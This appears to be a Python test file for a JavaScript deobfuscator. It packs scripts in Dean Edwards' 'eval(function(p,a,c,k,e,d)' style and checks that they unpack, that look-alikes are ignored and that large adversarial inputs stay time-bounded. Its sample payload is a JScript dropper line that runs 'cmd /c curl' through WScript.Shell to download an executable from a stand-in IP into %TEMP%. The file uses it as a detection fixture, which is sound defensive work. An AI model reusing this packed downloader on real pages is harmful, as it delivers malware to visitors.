"""Dean Edwards' packer (``eval(function(p,a,c,k,e,d)...)``), on a payload of our own.

The helper packs the way the packer does: each distinct word becomes its index in base
``a`` (digits past 35 written ``chr(d + 29)``), the words go in a ``|``-separated list.
"""

from __future__ import annotations

import re
import time

import pytest

from asisdk.decode import unpack

from .builders import layers

UNPACKER = (
    "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
    "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]"
    "=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if"
    "(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
)
PAYLOAD = (
    "var u='http://203.0.113.9/drop.exe';var s=new ActiveXObject('WScript.Shell');"
    "s.Run('cmd /c curl -o %TEMP%\\\\d.exe '+u,0,false);"
)


def _encode(number: int, base: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = ""
    while True:
        digit = number % base
        out = (chr(digit + 29) if digit > 35 else digits[digit]) + out
        number //= base
        if number == 0:
            return out


def pack(script: str, base: int = 62) -> str:
    words: list[str] = []
    for word in re.findall(r"\b\w+\b", script):
        if word not in words:
            words.append(word)
    index = {word: _encode(n, base) for n, word in enumerate(words)}
    body = re.sub(r"\b\w+\b", lambda m: index[m.group()], script)
    body = body.replace("\\", "\\\\").replace("'", "\\'")
    return f"{UNPACKER}('{body}',{base},{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"


@pytest.mark.parametrize("base", [10, 36, 62])
def test_packed_script_comes_back(base: int) -> None:
    html = f"<script>\n{pack(PAYLOAD, base)}\n</script>"
    assert ("js_packer", PAYLOAD) in layers(html)


def test_packed_script_with_empty_words_keeps_their_codes() -> None:
    # A word the packer left out of the list (an empty slot) stays as written.
    packed = pack("alpha beta gamma delta").replace("'alpha|", "'|")
    assert ("js_packer", "0 beta gamma delta") in layers(packed)


@pytest.mark.parametrize(
    "line",
    [
        # The unpacking function quoted in a deobfuscator's docs, without arguments.
        "// For eval(function(p,a,c,k,e,d){...}) packed code: run it in node",
        # Arguments that are not a packer's: no word list.
        "eval(function(p,a,c,k,e,d){return p;}('a=1',10,2,'x'))",
    ],
)
def test_packer_look_alikes_stay_alone(line: str) -> None:
    assert layers(line) == []


MB = 1_000_000
ADVERSARIAL = {
    "openings": "eval(function(p,a,c,k,e," * (MB // 24),
    "unclosed_payload": UNPACKER + "('" + "a" * MB,
    "backslashes": UNPACKER + "('" + "\\" * MB,
    "unclosed_words": UNPACKER + "('a',62,1,'" + "b|" * (MB // 2),
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_megabyte_is_bounded(name: str) -> None:
    started = time.perf_counter()
    unpack(ADVERSARIAL[name])
    assert time.perf_counter() - started < 30
